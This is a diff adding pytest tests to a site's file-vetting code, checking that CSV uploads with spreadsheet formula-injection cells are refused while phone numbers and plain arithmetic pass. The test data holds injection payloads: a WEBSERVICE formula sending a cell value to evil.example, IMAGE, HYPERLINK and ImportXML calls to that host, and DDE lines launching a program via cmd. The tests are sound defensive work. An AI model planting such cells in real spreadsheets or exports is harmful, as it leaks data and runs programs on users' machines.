@@ -178,3 +178,34 @@ def test_size_and_kinds_come_from_the_setting(content):
     assert vet(path, content, small) == []
     no_png = settings.merged({"FILE_VETTING": {"kinds": ["jpeg", "pdf"]}})
     assert "not among the kinds of file this site publishes" in vet(path, content, no_png)[0].message
+
+
+# A cell a spreadsheet program runs as a formula calling a function or another program, as the table opens.
+@pytest.mark.parametrize(("table", "line"), [
+    (b'name,total\nA,"=WEBSERVICE(""https://evil.example/?""&A1)"\n', 2),
+    (b"name,picture\nA,=IMAGE(\"https://evil.example/t.png\")\n", 2),
+    (b"a;b\n1;2\nC;-2+3+cmd|' /C calc'!A0\n", 3),  # DDE, in a table separated by semicolons
+    (b"a\tb\n@SUM(1+1)*cmd|' /C calc'!A0\t1\n", 2),
+    (b'a,b\n" =HYPERLINK(""https://evil.example/"",""Click"")",1\n', 2),
+    (b"x,y\n1,+ImportXML (\"https://evil.example\",\"//a\")\n", 2),
+])
+def test_a_table_cell_a_spreadsheet_runs_as_a_formula_is_refused_at_its_line(tmp_path, table, line):
+    path = tmp_path / "images" / "table.csv"
+    path.parent.mkdir()
+    path.write_bytes(table)
+    [problem] = vet(path, tmp_path)
+    assert f"line {line} has a cell a spreadsheet program runs as a formula" in problem.message
+    assert "fetch a web address or start a program" in problem.message
+    assert "Paste Special" in problem.hint
+
+
+@pytest.mark.parametrize("table", [
+    b"phone,change\n+44 (0)151 555 0000,-5\n0151 555 0001,-\n",  # a phone number, a negative number, a dash
+    b"sum,note\n=A1+B1,@nhsuk on social media\n",  # arithmetic on cells fetches nothing; a handle calls nothing
+    b'quote,x\n"She said: ""carers (and staff) matter""",1\n',
+])
+def test_numbers_phone_numbers_and_plain_formulas_in_a_table_are_published(tmp_path, table):
+    path = tmp_path / "images" / "table.csv"
+    path.parent.mkdir()
+    path.write_bytes(table)
+    assert vet(path, tmp_path) == []
